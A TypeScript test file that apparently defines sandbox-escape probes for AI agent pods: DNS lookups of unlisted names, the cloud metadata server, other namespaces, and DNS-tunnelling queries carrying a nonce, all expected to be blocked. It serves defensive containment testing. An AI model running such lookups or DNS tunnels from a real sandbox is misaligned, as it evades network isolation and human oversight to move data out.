import { UPSTREAM_HOST } from "../../../../components/gateway/api/upstream.ts";
import { variants } from "../../../../components/gateway/paths/index.ts";
import { servesHttp } from "../../../../components/gateway/paths/variant.ts";
import type { Attempt } from "../attempt.ts";

/**
 * A look-up at the agents' DNS. Two rings block it: that DNS forwards nothing, and no policy lets its pod ask another DNS.
 */
const ownDns = (id: string, title: string, python: Attempt["python"]): Attempt => ({
  id,
  title,
  expected: "blocked",
  rings: ["dns", "policy"],
  python,
});

const resolved = (id: string, title: string, name: Attempt["python"]) =>
  ownDns(id, title, (...given) => `return str(socket.getaddrinfo("${name(...given)}", 443)[0][4])`);

const clusterDns = (id: string, title: string, python: Attempt["python"]): Attempt => ({
  id,
  title,
  expected: "blocked",
  rings: ["policy"],
  python,
});

/** Look-ups: names that must not resolve for agents, and look-ups that would carry data out. */
export const names: readonly Attempt[] = [
  resolved("name.unlisted", "an unlisted name", () => "unlisted.example"),
  resolved("name.trailing-dot", "an unlisted name with a trailing dot", () => "unlisted.example."),
  resolved("name.upper-case", "an unlisted name in upper case", () => "UNLISTED.EXAMPLE"),
  {
    ...resolved("name.upstream", "the API's own name", () => UPSTREAM_HOST),
    variants: variants.filter(servesHttp).map(({ name }) => name),
  },
  resolved("name.metadata", "the metadata server by name", () => "metadata.google.internal"),
  resolved(
    "name.cluster",
    "a Service of another namespace by name",
    ({ visitor }) => `inside.${visitor.namespace}.svc.cluster.local`,
  ),
  resolved(
    "name.external",
    "an ExternalName Service that points outside",
    ({ visitor }) => visitor.externalName,
  ),
  ownDns(
    "dns.tunnel-own",
    "a look-up that carries data, at the agents' DNS",
    ({ dnsAddress }, nonce) => `return resolve_udp("${dnsAddress}", "${nonce}.unlisted.example")`,
  ),
  ownDns(
    "dns.tunnel-own-txt",
    "the same for a TXT record",
    ({ dnsAddress }, nonce) =>
      `return resolve_udp("${dnsAddress}", "${nonce}.unlisted.example", 16)`,
  ),
  clusterDns(
    "dns.tunnel-cluster",
    "a look-up that carries data, at the cluster's DNS over UDP",
    ({ clusterDns }, nonce) =>
      `udp("${clusterDns}", 53, question("${nonce}.unlisted.example")); return "answered"`,
  ),
  clusterDns(
    "dns.tunnel-cluster-tcp",
    "the same over TCP",
    ({ clusterDns }, nonce) => `return resolve_tcp("${clusterDns}", "${nonce}.unlisted.example")`,
  ),
  clusterDns(
    "dns.external-cluster",
    "the ExternalName Service, at the cluster's DNS",
    ({ clusterDns, visitor }) => `return resolve_udp("${clusterDns}", "${visitor.externalName}")`,
  ),
];
